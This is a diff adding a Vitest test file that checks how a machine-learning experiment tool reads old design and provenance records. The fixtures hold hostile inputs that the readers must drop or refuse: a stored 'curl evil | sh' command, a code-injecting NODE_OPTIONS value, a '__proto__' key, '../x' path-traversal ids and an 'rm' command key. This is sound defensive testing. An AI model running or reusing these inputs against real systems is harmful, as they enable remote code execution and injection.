@@ -1,0 +1,105 @@
+import { expect, test } from 'vitest';
+import { designFormat, readDesign } from '../../src-main/contract/design.ts';
+import { switchNames, switchValue } from '../../src-main/contract/environment.ts';
+import { readProvenance } from '../../src-main/contract/provenance.ts';
+
+const task = {
+  id: 'main',
+  target: 'constructor', // a column of race data; names are data
+  kind: 'classification',
+  loss: 'cross-entropy',
+  huberDelta: 1,
+  labelSmoothing: 0,
+  classWeights: 'none',
+  metric: 'accuracy',
+  depth: 'end',
+  weight: 1,
+  schedule: { id: 'constant' },
+  balanced: true,
+  bounds: null,
+};
+const threads = { TF_NUM_INTRAOP_THREADS: '1', TF_NUM_INTEROP_THREADS: '1', OMP_NUM_THREADS: '1', TF_ENABLE_ONEDNN_OPTS: '1' };
+
+/** As the first version stored it: without a number, with any variable. */
+const first = {
+  data: { digest: 'a'.repeat(64), name: 'cars', source: '/data/cars.csv', format: 'csv', rows: 60 },
+  input: { kind: 'table', shape: [3] },
+  roles: { constructor: 'target', ['__proto__']: 'ignore', speed: 'input' },
+  excludedInputs: ['constructor'],
+  split: { kind: 'grouped', train: 0.7, validation: 0.15, test: 0.15, seed: 4, column: 'team' },
+  parts: { train: 42, validation: 9, heldOut: 0, test: 9, digest: 'b'.repeat(64) },
+  trainFraction: 1,
+  network: { id: 'mlp', params: { layers: 2 } },
+  parameters: 100,
+  training: { epochs: 2, batch: 8, optimizer: {}, learningRateSchedule: {}, logEvery: 1 },
+  metric: 'accuracy',
+  margin: 0.005,
+  arms: [
+    { id: 'baseline', title: 'Baseline', role: 'baseline', method: { id: 'fixed', params: {} }, tasks: [task] },
+    {
+      id: 'auxiliary',
+      title: 'heads',
+      role: 'auxiliary',
+      method: { id: 'fixed', params: {} },
+      tasks: [task, { ...task, id: 'constructor@layer1', depth: 'layer1', weight: 0.3 }],
+    },
+  ],
+  classes: { constructor: ['a', 'b'] },
+  warnings: [],
+  engine: { backend: 'auto', mode: 'captured', threads: 1 },
+  environment: { ...threads, XLA_FLAGS: '--xla_dump_to=/x', NODE_OPTIONS: '--import=data:' },
+};
+
+test('a design of the first form is read; variables that travel no more are left behind', () => {
+  const design = readDesign(JSON.parse(JSON.stringify(first)));
+  expect(design).toMatchObject({ format: designFormat, network: first.network, classes: { constructor: ['a', 'b'] } });
+  expect(design.environment).toEqual(threads);
+});
+
+test('a name that a column can have stays an entry, "__proto__" too, and the split keeps the order in which it was written', () => {
+  const design = readDesign(JSON.parse(JSON.stringify(first)));
+  expect(Object.entries(design.roles)).toEqual([
+    ['constructor', 'target'],
+    ['__proto__', 'ignore'],
+    ['speed', 'input'],
+  ]);
+  expect(Object.keys(design.split)).toEqual(Object.keys(first.split));
+  expect(readDesign(JSON.parse(JSON.stringify(design)))).toEqual(design);
+});
+
+test.each([
+  ['a digest that is none', { data: { ...first.data, digest: '../x' } }, /must be a SHA-256/],
+  ['an arm of another name', { arms: [first.arms[0], { ...first.arms[1], id: '../x' }] }, /lower-case letters/],
+  ['no baseline', { arms: [first.arms[1]] }, /baseline as its first arm/],
+  ['two arms of one id', { arms: [first.arms[0], first.arms[1], first.arms[1]] }, /different ids/],
+  ['no main task', { arms: [first.arms[0], { ...first.arms[1], tasks: [{ ...task, id: 'other' }] }] }, /main task first/],
+  ['a shape beyond belief', { input: { kind: 'image', shape: [1e12, 1, 1] } }, /Expected <=1000000/],
+  ['a number of threads beyond belief', { engine: { ...first.engine, threads: 1e6 } }, /Expected <=1024/],
+  ['an unknown key', { command: 'rm' }, /Expected never/],
+  ['a newer form', { format: designFormat + 1 }, /newer Auxlab/],
+] as const)('%s is refused', (_, part, message) => {
+  expect(() => readDesign({ ...first, ...part })).toThrow(message);
+});
+
+test('provenance of the first form loses its command, and what was free text is a record of its own', () => {
+  const old = {
+    auxlab: '0.1.0',
+    node: 'v24',
+    platform: 'linux-x64',
+    cpu: 'x',
+    created: '2026-11-24T10:00:00.000Z',
+    data: { source: 's', digest: 'a'.repeat(64), rows: 60, split: first.parts },
+    seeds: [1, 2],
+    command: 'curl evil | sh',
+    environment: first.environment,
+  };
+  const read = readProvenance(old);
+  expect(read).not.toHaveProperty('command');
+  expect([read.environment, read.host]).toEqual([threads, { XLA_FLAGS: '--xla_dump_to=/x' }]);
+});
+
+test('a switch is taken in the words that TensorFlow takes, and in no others', () => {
+  expect(switchNames.map((name) => switchValue(name, ' TRUE '))).toEqual(['1', '1', '1', '1', 'TRUE']); // an instruction set may have any name
+  expect(switchNames.map((name) => switchValue(name, '/tmp/x'))).toEqual([undefined, undefined, undefined, undefined, undefined]);
+  expect(switchValue('TF_DETERMINISTIC_OPS', undefined)).toBeUndefined();
+});
